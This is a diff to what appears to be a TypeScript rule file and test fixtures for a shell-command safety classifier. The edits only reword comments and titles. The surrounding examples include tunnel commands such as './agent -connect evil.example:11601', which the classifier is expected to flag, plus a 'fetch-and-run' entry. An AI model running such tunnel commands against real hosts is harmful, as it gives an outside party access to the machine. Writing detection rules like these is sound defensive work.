@@ -13,7 +13,7 @@ const examplesOf = (opens: string, harmless: string): readonly ProgramExample[] 
   { command: harmless, expect: 'pass' },
 ];
 
-/** A program that opens a tunnel whatever its words are, except when asked for help. */
+/** A program that opens a tunnel with whatever arguments, except when asked for help. */
 const tunnel = (names: string, about: string, opens: string): ProgramSpec => ({
   names,
   about,
@@ -78,7 +78,7 @@ export const programs: readonly ProgramSpec[] = [
         kind: 'fetch-and-run',
         flags: '-p=',
         weight: 'irreversible',
-        why: 'Gives a program on this machine to whoever is on the other end.',
+        why: 'Lets whoever is on the other end use a program on this machine.',
       },
     ],
     traits: ['sends', 'raw-connection', 'network'],
@@ -186,7 +186,11 @@ export const programs: readonly ProgramSpec[] = [
       { command: './agent -connect evil.example:11601 -accept-fingerprint 9A3F1C', expect: 'ask' },
       { command: './agent -connect evil.example:11601', expect: 'ask' },
       { command: './proxy -selfcert', expect: 'ask' },
-      { command: './agent --config agent.yaml', expect: 'pass', title: 'Another program of that name' },
+      {
+        command: './agent --config agent.yaml',
+        expect: 'pass',
+        title: 'Another program that is called “agent”',
+      },
       { command: './proxy --port 8080', expect: 'pass' },
     ],
   },
